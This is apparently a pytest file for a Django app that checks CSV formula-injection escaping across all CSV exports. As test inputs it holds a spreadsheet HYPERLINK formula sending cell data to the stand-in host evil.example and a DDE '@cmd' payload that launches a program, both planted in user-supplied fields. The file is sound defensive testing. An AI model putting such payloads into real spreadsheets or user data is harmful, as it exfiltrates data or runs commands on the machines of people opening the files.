"""One CSV cell escaper for every CSV Stint writes (issue 15 item 4)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from django.test import Client

from stint.accounts.models import User
from stint.core.spreadsheet import csv_cell
from stint.orgs.models import Organisation
from stint.programs import services as program_services
from stint.programs.models import CreditRecord
from tests.programs.conftest import make_opportunity

SRC = Path(__file__).resolve().parents[2] / "src" / "stint"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Emma")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3+A1", "'-3+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("plain", "plain"),
        (-3, "-3"),
        (None, ""),
        (date(2025, 1, 2), "2025-01-02"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_every_module_writing_csv_uses_the_one_escaper() -> None:
    writers = [
        p
        for p in SRC.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers, "the scan found the CSV writers"
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert re.search(r"\bcsv_(cell|row)\b", text), f"{path} writes CSV without csv_cell"


@pytest.mark.django_db
def test_credits_csv_escapes_every_person_written_cell(
    dana: User,
    uni: Organisation,
    bob: User,
    acme: Organisation,
    client_for: Callable[[User | None], Client],
) -> None:
    program = program_services.program_create(
        actor=dana, institution_id=uni.pk, name="Summer cohort", credit_bearing=True, credits=3
    )
    student = User.objects.create_user(
        email="emma@uni.example.edu", password="x-long-password-1", full_name=HOSTILE
    )
    opportunity = make_opportunity(acme, bob, "@cmd|' /C calc'!A0")
    CreditRecord.objects.create(
        program=program, student=student, opportunity=opportunity, credits=3
    )
    r = client_for(dana).get(f"/programs/{program.pk}/credits.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert rows[1][1] == "'" + HOSTILE
    assert rows[1][2].startswith("'@cmd")
